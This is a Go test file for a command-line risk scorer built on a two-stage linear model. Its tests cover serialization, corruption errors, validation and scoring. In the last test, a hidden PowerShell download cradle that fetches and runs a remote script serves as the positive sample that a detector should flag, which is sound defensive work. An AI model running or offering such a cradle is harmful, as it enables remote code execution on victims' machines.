package linear

import (
	"bytes"
	"errors"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"scorecmdline/src/features"
)

// testModel is a small two-stage model with pseudo-random sparse weights.
func testModel(bits uint) *Model {
	r := rand.New(rand.NewPCG(1, 2))
	m := &Model{Name: "test", Description: "unit test", Bits: bits, Threshold: 0.6, Risk: 40, Cut: -1,
		Command: "go test", Corpus: []CorpusFile{{"a.jsonl", strings.Repeat("0", 64), 3}}, Report: "report\n"}
	for _, gs := range []features.Groups{features.Cheap, features.Full} {
		st := Stage{Groups: gs, Bias: -0.5, W: make([]float32, 1<<bits)}
		for i := range st.W {
			if r.IntN(4) == 0 {
				st.W[i] = float32(r.NormFloat64())
			}
		}
		m.Stages = append(m.Stages, st)
	}
	return m
}

func TestRoundTrip(t *testing.T) {
	m := testModel(12)
	data, err := m.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Parse("m.bin", data)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := got.MarshalBinary()
	if !bytes.Equal(data, again) {
		t.Fatal("marshal(parse(marshal(m))) differs from marshal(m)")
	}
	if got.Name != m.Name || got.Threshold != m.Threshold || got.Cut != m.Cut || got.Risk != m.Risk || got.Report != m.Report {
		t.Errorf("header fields differ: %+v", got)
	}
	for s := range m.Stages {
		if got.Stages[s].Groups != m.Stages[s].Groups || !equalW(got.Stages[s].W, m.Stages[s].W) {
			t.Errorf("stage %d differs", s)
		}
	}
	// Load through an fs.FS.
	if _, err := Load(fstest.MapFS{"m.bin": {Data: data}}, "m.bin"); err != nil {
		t.Fatal(err)
	}
}

func equalW(a, b []float32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestCorruption(t *testing.T) {
	data, err := testModel(10).MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	flip := func(i int) []byte { d := bytes.Clone(data); d[i] ^= 1; return d }
	tests := []struct {
		name string
		data []byte
		want error
	}{
		{"empty", nil, ErrMagic},
		{"text", []byte("name = 'x'\n"), ErrMagic},
		{"magic only", []byte(magic), ErrTruncated},
		{"truncated", data[:len(data)-100], ErrChecksum},
		{"truncated in header", data[:40], ErrTruncated},
		{"no trailer", data[:len(data)-32], ErrChecksum},
		{"version", flip(8), ErrVersion},
		{"header byte edited", flip(30), ErrChecksum},
		{"weight edited", flip(len(data) - 40), ErrChecksum},
		{"trailer edited", flip(len(data) - 1), ErrChecksum},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("lookups/x.model.bin", tt.data)
			var fe *FormatError
			if !errors.As(err, &fe) || !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want a *FormatError wrapping %v", err, tt.want)
			}
			if !strings.Contains(err.Error(), "lookups/x.model.bin") {
				t.Errorf("error %q does not name the file", err)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	for name, edit := range map[string]func(*Model){
		"threshold": func(m *Model) { m.Threshold = 2 },
		"risk":      func(m *Model) { m.Risk = 101 },
		"bits":      func(m *Model) { m.Bits = 30 },
		"weights":   func(m *Model) { m.Stages[0].W = m.Stages[0].W[:10] },
		"nan":       func(m *Model) { m.Stages[1].W[3] = float32(math.NaN()) },
		"groups":    func(m *Model) { m.Stages[0].Groups = 0 },
		"stages":    func(m *Model) { m.Stages = nil },
	} {
		m := testModel(10)
		edit(m)
		if _, err := m.MarshalBinary(); err == nil {
			t.Errorf("%s: invalid model marshalled", name)
		}
	}
}

func TestScoreMatchesVector(t *testing.T) {
	m := testModel(12)
	s := m.NewScorer()
	x := features.New(12)
	for _, line := range benchLines()[:50] {
		in := &features.Input{Cmdline: []byte(line)}
		p := s.Score(in)
		x.Reset(in)
		st := &m.Stages[0]
		z := st.Logit(x.AppendVector(nil, st.Groups))
		wantStage := 0
		if z >= m.Cut {
			st, wantStage = &m.Stages[1], 1
			z = st.Logit(x.AppendVector(nil, st.Groups))
		}
		if s.Stage() != wantStage || math.Abs(s.Logit()-z) > 1e-9 || math.Abs(p-Sigmoid(z)) > 1e-12 {
			t.Fatalf("%q: scorer stage %d logit %v, vector stage %d logit %v", line, s.Stage(), s.Logit(), wantStage, z)
		}
		// Explain's contributions add up to the logit when all are listed.
		sum := 0.0
		for _, c := range s.Explain(nil, 1<<20) {
			sum += c.Value
		}
		if math.Abs(sum-z) > 1e-6 {
			t.Fatalf("%q: contributions sum to %v, logit %v", line, sum, z)
		}
	}
}

func TestScoreAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	m := testModel(12)
	s := m.NewScorer()
	in := &features.Input{Cmdline: []byte(benchLines()[0])}
	s.Score(in)
	if n := testing.AllocsPerRun(100, func() { s.Score(in) }); n != 0 {
		t.Errorf("Score allocates %v times per row", n)
	}
}

// shipped is the model committed under lookups/, when present.
func shipped(tb testing.TB) []byte {
	data, err := os.ReadFile(filepath.Join("..", "..", "lookups", "cmdline.model.bin"))
	if err != nil {
		tb.Skip("lookups/cmdline.model.bin not built yet")
	}
	return data
}

func TestShippedModelLoads(t *testing.T) {
	m, err := Parse("cmdline.model.bin", shipped(t))
	if err != nil {
		t.Fatal(err)
	}
	s := m.NewScorer()
	attack := s.Score(&features.Input{Cmdline: []byte(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')"`)})
	benign := s.Score(&features.Input{Cmdline: []byte(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`)})
	if !m.Alert(attack) || m.Alert(benign) {
		t.Errorf("download cradle %.3f, chrome renderer %.3f, threshold %.3f", attack, benign, m.Threshold)
	}
}
